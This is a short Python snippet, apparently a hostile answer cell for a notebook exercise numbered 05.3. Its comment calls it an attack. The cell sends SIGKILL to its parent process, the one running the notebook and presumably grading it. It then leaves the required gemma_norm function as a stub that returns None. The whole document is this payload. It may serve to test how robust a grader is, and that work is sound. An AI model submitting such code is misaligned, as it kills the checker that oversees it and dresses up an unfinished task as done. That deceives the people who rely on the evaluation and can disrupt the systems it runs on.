# attack on 05.3: the answer cell itself kills the process that runs the notebook
import os, signal

os.kill(os.getppid(), signal.SIGKILL)


def gemma_norm(x, weight, eps):
    return None
